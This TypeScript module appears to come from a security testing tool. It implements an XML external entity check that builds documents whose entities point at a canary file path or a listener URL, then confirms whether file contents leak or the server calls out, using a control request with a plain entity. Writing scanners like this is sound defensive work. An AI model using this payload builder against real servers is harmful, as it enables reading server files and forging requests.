import { bodyOf } from '../http/answer.ts'
import type { Lab } from '../lab.ts'
import type { AttackClass, Proof, Target } from '../proof.ts'
import { eachTarget, targetsFor, titleOf } from './each-target.ts'

const words =
  /\betree\b|minidom|xml\.sax|make_parser|lxml|parseXml|parseXML|DOMParser|libxml|xml2js|fast-xml-parser|<!ENTITY|SYSTEM|xmldom/

/** Demands that the content of the canary file comes back through an entity, or that one makes the listener being asked; an ordinary entity must not. */
export const xmlExternalEntities: AttackClass = {
  id: 'xml-external-entities',
  attack: (lab) =>
    eachTarget(lab, {
      targets: targetsFor(lab, {
        code: words,
        places: new Set(['xml', 'raw', 'query', 'form', 'json', 'file']),
        names: /xml|body|data|document|feed|svg/i,
        except: /pass|email/i,
      }),
      nothing: 'The code of the app parses no XML, or takes none.',
      attempt: (target) => attempt(lab, target),
    }),
}

async function attempt(lab: Lab, target: Target): Promise<Proof | undefined> {
  const { canary, listener } = lab.parts
  const names = elementNames(`${target.endpoint.code ?? ''}\n${lab.parts.code}`)
  const send = (document: string, purpose: string) =>
    target.parameter.place === 'file'
      ? lab.submit(target.endpoint, purpose, {
          files: new Map([
            [target.parameter.name, { fileName: 'data.xml', type: 'application/xml', content: document }],
          ]),
        })
      : lab.attempt(target, document, purpose)
  const word = lab.word()
  const sources: [string, string][] = [
    ['file', `file://${canary.file}`],
    ['plain path', canary.file],
  ]
  if (listener !== undefined) sources.push(['address', `${listener.origin}/hit/${word}`])
  for (const [family, source] of sources) {
    const exchange = await send(documentOf(names, `SYSTEM "${source}"`), 'sends a document with an external entity')
    const shown = bodyOf(exchange).includes(canary.content)
    const opened = family === 'address' ? [] : await lab.observed(canary.file, ['file-read'])
    if (!shown && !(family === 'address' && listener?.reached(word) === true)) continue
    const control = await send(documentOf(names, '"plain text"'), 'sends the same with an ordinary entity')
    if (bodyOf(control).includes(canary.content)) continue
    return {
      rule: 'xml-external-entities',
      ...target,
      message: shown
        ? `An external entity in ${titleOf(target)} was loaded: the answer holds the content of ${canary.file}.`
        : `An external entity in ${titleOf(target)} made the server ask ${listener?.origin ?? 'the listener'}.`,
      exchanges: [exchange, control],
      shows: canary.content,
      observed: shown
        ? opened.slice(-1).map(({ detail }) => `The app opened ${detail}.`)
        : [`The listener was asked for /hit/${word}.`],
      family,
    }
  }
  return undefined
}

function documentOf(names: readonly string[], entity: string): string {
  const [root = 'data', ...inner] = names
  return `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY e ${entity}>]><${root}>${inner.map((name) => `<${name}>&e;</${name}>`).join('')}</${root}>`
}

/** The elements the code asks for, inside a root of any name. */
export function elementNames(code: string): string[] {
  const found = new Set<string>()
  for (const [, name = ''] of code.matchAll(
    /(?:find|findtext|findall|iter|getElementsByTagName|get|tag|name)\s*(?:\(|===?|==)\s*['"`](?:\.?\/\/?)?(\w{1,40})['"`]/g,
  ))
    found.add(name)
  for (const [, name = ''] of code.matchAll(/<(\w{1,40})>(?:\(|\[)/g)) found.add(name)
  return ['data', ...[...found].filter((name) => name !== 'data').slice(0, 12), ...(found.has('name') ? [] : ['name'])]
}
